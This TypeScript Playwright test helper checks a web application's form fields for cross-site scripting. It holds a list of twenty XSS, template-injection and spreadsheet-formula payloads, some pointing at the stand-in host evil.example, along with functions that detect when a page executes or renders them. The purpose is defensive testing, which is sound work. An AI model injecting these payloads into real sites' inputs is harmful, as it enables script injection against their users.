import type { Page } from '@playwright/test';

/** Twenty texts that contain a script, markup or a formula, short enough for a name of forty characters. */
export const PAYLOADS = [
  '<script>xss()</script>',
  '<img id=pwn src=x onerror=xss()>',
  '<svg id=pwn onload=xss()>',
  '"><b id=pwn onclick=xss()>',
  "'><i id=pwn onfocus=xss() autofocus>",
  'javascript:xss()',
  '<a id=pwn href=javascript:xss()>x</a>',
  '<iframe id=pwn src=javascript:xss()>',
  '</script><script>xss()</script>',
  '</title><img id=pwn src=x onerror=xss()>',
  "{{constructor.constructor('xss()')()}}",
  '${xss()}',
  '<details id=pwn open ontoggle=xss()>',
  '<math><mtext id=pwn>',
  '<style id=pwn>*{display:none}</style>',
  '<base id=pwn href=//evil.example>',
  '&lt;img id=pwn onerror=xss()&gt;',
  '\\x3cscript\\x3exss()\\x3c/script\\x3e',
  'data:text/html,<b id=pwn>',
  '=HYPERLINK("//evil.example?x","x")',
] as const;

/** All of them in two texts. */
export const HALVES = [PAYLOADS.slice(0, 10).join(' '), PAYLOADS.slice(10).join(' ')] as const;

/** Fields of the data API that store a payload and are filled by the spec. */
export const KEPT = [
  'claim/answerSave answer',
  'claim/disputeSubmit statement',
  'claim/save artist_school',
  'claim/save consultant_name',
  'claim/save contract_number',
  'claim/save intro',
  'claim/save location',
  'claim/save other_art_genres',
  'claim/submit artist_school',
  'claim/submit consultant_name',
  'claim/submit contract_number',
  'claim/submit intro',
  'claim/submit location',
  'claim/submit other_art_genres',
  'complaint/answer answer',
  'code/alertSettle note',
  'code/goodsSave licensee',
  'code/goodsSave product_name',
  'code/goodsSave project_name',
  'code/invoiceRequest company_name',
  'filing/invoiceRequest company_name',
  'code/licenseeSave licensee_name',
  'code/licenseeSave link_name',
  'code/licenseeSave recipient',
  'code/licenseeSave recipient_address',
  'code/orderCreate recipient',
  'code/orderCreate recipient_address',
  'code/reportSettle reason',
  'gallery/seriesSave series_name',
  'ip/add core_audience',
  'ip/add intro',
  'ip/announcementSave announcement_content',
  'ip/announcementSave announcement_title',
  'ip/caseSave case_desc',
  'ip/caseSave case_name',
  'ip/feedSave feed_content',
  'ip/ipLinkInfoUpdate link_name',
  'ip/milestoneSave event_desc',
  'ip/update artist_school',
  'ip/update core_audience',
  'ip/update intro',
  'ip/update location',
  'ip/update other_art_genres',
  'member/auth real_name',
  'member/profileSave location',
  'member/profileSave username',
  'member/register location',
  'member/register username',
  'opportunity/cooperateSubmit buyer_name',
  'opportunity/cooperateSubmit company_case',
  'opportunity/cooperateSubmit company_name',
  'opportunity/cooperateSubmit other_describe',
  'opportunity/cooperateSubmit sku_describe',
  'opportunity/sheetReply answer',
  'opportunity/sheetReply reason',
  'opportunity/templateSave answer',
  'opportunity/templateSave template_name',
  'tender/campaignEntry entrant_name',
  'tender/campaignEntry intro',
  'tender/campaignEntry work_name',
  'tender/campaignReport statement',
  'tender/objectionSubmit statement',
  'tender/brandScore remark',
  'tender/questionAsk question',
  'tender/registrationSave ip_intro',
  'tender/registrationSave remark',
  'tender/registrationSubmit ip_intro',
  'tender/registrationSubmit remark',
  'filing/save title',
  'filing/save description',
  'filing/save author_name',
  'filing/save holder_name',
  'tender/brandPinAnswer text',
  'tender/pinAnswer text',
  'tender/imageDecide reason',
  'tender/imageRequest purpose',
  'tender/imageRequest used_in',
  'tender/imageRevoke reason',
  'tender/roundSubmit text',
  'tender/roundSubmit tracking_number',
  'tender/threadOpen product_name',
  'tender/threadOpen text',
  'tender/threadOpen tracking_number',
  'tender/threadReply feedback',
  'tender/skinSave card_name',
  'tender/skinSave comment_name',
  'tender/skinSave emoji_name',
  'tender/skinSave goods_name',
  'tender/skinSave space_name',
  'tender/skinSave theme_name',
];

/** Fields that accept one without storing it: hashed, compared, searched for. */
export const NOT_KEPT =
  /password|^code\/verify code$|^code\/scan(List|Stats) place$|^(ip\/(search|\w+List)|content\/(articleList|directory)|gallery\/seriesList|code\/(goods|order|use)List|search\/records|opportunity\/sheetList|tender\/(threadList|imageRequestList)) keyword$/;

interface Schema {
  shape?: Record<string, Schema>;
  def: { options?: Schema[]; in?: Schema };
  safeParse: (value: unknown) => { success: boolean; data?: unknown };
}

/** Names of a schema's fields that accept one of the payloads as text. */
export function openFields(schema: unknown): string[] {
  const { shape, def } = schema as Schema;
  const inner = [...(def.options ?? []), ...(def.in ? [def.in] : [])].flatMap(openFields);
  const own = Object.entries(shape ?? {}).filter(([, field]) =>
    PAYLOADS.some((payload) => typeof field.safeParse(payload).data === 'string'),
  );
  return [...new Set([...inner, ...own.map(([name]) => name)])];
}

/** Traces of a payload that was interpreted as markup. */
const MARKUP =
  '#pwn, [onerror], [onload], [onclick], [onfocus], [ontoggle], iframe, object, embed, base, math, [srcdoc], a[href^="javascript:" i], a[href^="data:" i]';

/** Records effects of payloads in a page: a call, a dialog, a policy violation, a request. */
export async function trap(page: Page): Promise<string[]> {
  const sprung: string[] = [];
  await page.exposeFunction('xss', () => sprung.push(`ran on ${page.url()}`));
  await page.exposeFunction('breach', (what: string) => sprung.push(`breach: ${what}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      (window as unknown as { breach: (what: string) => void }).breach(`${violatedDirective} ${blockedURI}`);
    });
  });
  page.on('dialog', (dialog) => {
    sprung.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { hostname, pathname } = new URL(request.url());
    if (hostname === 'evil.example' || pathname === '/x' || pathname === '/admin/x')
      sprung.push(`asked for ${request.url()}`);
  });
  return sprung;
}

/** Markup in the page that came from a text. */
export const interpreted = (page: Page): Promise<string[]> =>
  page.evaluate(
    (markup) =>
      [...document.querySelectorAll(markup)].map(
        (element) => `${location.hash}: ${element.outerHTML.slice(0, 120)}`,
      ),
    MARKUP,
  );

/** Payloads the page shows as text, in fields, or in names of pictures. */
export const shown = (page: Page): Promise<number[]> =>
  page.evaluate(
    (payloads) => {
      const fields = [...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(
        ({ value }) => value,
      );
      const names = [...document.querySelectorAll('[alt], [aria-label], [title]')].flatMap((element) =>
        ['alt', 'aria-label', 'title'].map((name) => element.getAttribute(name) ?? ''),
      );
      const all = [document.body.innerText, ...fields, ...names].join('\n');
      return payloads.flatMap((payload, at) => (all.includes(payload) ? [at] : []));
    },
    PAYLOADS as readonly string[],
  );
